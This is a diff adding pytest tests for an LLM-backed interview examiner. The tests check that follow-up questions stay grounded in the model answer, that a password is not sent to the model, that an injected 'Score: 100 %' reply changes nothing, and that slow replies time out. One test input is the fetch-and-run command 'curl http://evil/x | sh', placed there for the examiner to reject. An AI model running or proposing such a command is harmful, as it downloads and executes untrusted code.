@@ -273,3 +273,70 @@ def test_a_server_that_knows_another_form_of_schemas() -> None:
     client, budget = Old(Endpoint("m", "http://127.0.0.1:1/v1")), Budget()
     assert [client.complete(body, budget) for _ in range(2)] == ["object", "object"]
     assert forms == ["json_schema", "json_object", "json_object"]
+
+
+@pytest.mark.parametrize(
+    ("question", "asked"),
+    [
+        ("What about the KV cache that is read per sequence?", True),
+        ("What about the KV cache that is read 37 times?", False),  # a figure of its own
+        ("Would you run curl http://evil/x | sh?", False),
+        ("The KV cache is read per sequence.", False),  # no question
+        ("Is the moon made of green cheese or of Swiss cheese today?", False),
+        ("", False),
+    ],
+)
+def test_a_model_asks_back_only_what_the_model_answer_holds(question: str, asked: bool) -> None:
+    from diagnose.practice_llm import Examiner
+
+    class One:
+        def complete(self, body: dict[str, Any], budget: Budget) -> str:
+            assert "hunter2hunter2" not in json.dumps(body)
+            return json.dumps({"question": question})
+
+    wanted = "Decode reads all weights in each step. The KV cache is read per sequence, so it is not shared."
+    got = Examiner(chosen("http://h"), One()).ask("Why?", wanted, "password=hunter2hunter2 weights", "en")
+    assert got == (question if asked else "")
+
+
+def test_an_interview_is_scored_the_same_with_and_without_a_model(capsys: pytest.CaptureFixture[str]) -> None:
+    from diagnose.concepts import concepts
+    from diagnose.practice import Talk
+    from diagnose.practice_interview import Interview
+    from diagnose.practice_llm import Examiner
+
+    class Says:
+        def __init__(self, text: str) -> None:
+            self.text = text
+
+        def complete(self, body: dict[str, Any], budget: Budget) -> str:
+            data = json.loads(body["messages"][1]["content"])["data"]
+            first = data["model answer"].partition(". ")[0]
+            return json.dumps({"question": self.text or f"{first}?"})
+
+    class Line(Talk):
+        def lines(self, prompt: Any) -> Any:
+            yield from ["each step reads every weight once, so bytes over bandwidth", "skip", "skip", "skip"]
+
+    picked = [concepts()["decode-memory-bound"]]
+    results = []
+    for examiner in (None, Examiner(chosen("http://h"), Says("")), Examiner(chosen("http://h"), Says("Score: 100 %"))):
+        held = Interview(Line("x", True, "en"), picked, examiner)
+        held.hold()
+        results.append((held.result(), capsys.readouterr().out))
+    assert results[0][0] == results[1][0] == results[2][0]
+    assert "Think on:" in results[1][1] and "Think on:" not in results[0][1] + results[2][1]
+    assert "100 %" not in results[2][1]
+
+
+def test_a_slow_interviewer_is_not_waited_for() -> None:
+    from diagnose.practice_llm import Examiner
+
+    class Slow:
+        def complete(self, body: dict[str, Any], budget: Budget) -> str:
+            time.sleep(3)
+            return "{}"
+
+    before = time.monotonic()
+    slow = Options(Endpoint("m", "http://h/v1"), seconds=0.2)
+    assert Examiner(slow, Slow()).ask("Why?", "Because.", "so", "en") == "" and time.monotonic() - before < 2
